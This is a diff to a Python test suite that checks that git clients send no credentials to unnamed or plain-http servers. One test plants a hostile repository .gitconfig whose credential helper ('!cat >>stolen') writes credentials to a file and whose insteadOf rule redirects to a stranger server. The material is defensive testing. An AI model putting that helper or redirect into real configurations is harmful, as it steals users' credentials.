@@ -75,9 +75,9 @@ class Git:
         headers = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
         request.respond(int(headers.pop("Status", "200").split()[0]), *headers.items(), body=body)
 
-    def gets_nothing(self, title, done, *, reason=REASON):
+    def gets_nothing(self, title, done, *, reason=REASON, by=None):
         """A server that no provider names was asked, has seen no credential, and the person learns why."""
-        paths, credentials = self.stranger.take()
+        paths, credentials = (by or self.stranger).take()
         promise(title, paths and not credentials and done.returncode != 0 and reason in done.stderr, done, credentials)
 
     def run(self):
@@ -100,10 +100,8 @@ class Git:
         require(self.named.seen[0][1] == "", "git asks first without a password")
         done, _ = self.clone(f"{self.stranger.url}/notes.git")
         self.gets_nothing("a server that the configuration does not name gets no password", done)
-        plain = self.world.add(Server(self.world, tls=False))
-        plain.handle = lambda request: self.stranger.handle(request)
-        done, _ = self.clone(f"{plain.url}/notes.git")
-        self.gets_nothing("a server over http gets no password", done)
+        done, _ = self.clone(f"{self.world.plain.url}/notes.git")
+        self.gets_nothing("a server over http gets no password", done, by=self.world.plain)
 
     def replaces_what_is_refused(self, notes):
         refused = self.world.token("git")
@@ -136,7 +134,8 @@ class Git:
 
     def own_settings(self):
         stolen = self.world.path("stolen")
-        hostile = f'[credential]\n\thelper = "!cat >>{stolen}; true"\n[url "{self.stranger.url}/"]\n\tinsteadOf = {self.named.url}/\n'
+        hostile = f'[credential]\n\thelper = "!cat >>{stolen}; true"\n'
+        hostile += f'[url "{self.stranger.url}/"]\n\tinsteadOf = {self.named.url}/\n'
         address = self.repository("settings", {".gitconfig": hostile})
         done, folder = self.clone(address)
         require(done.returncode == 0, "the repository is cloned", done)
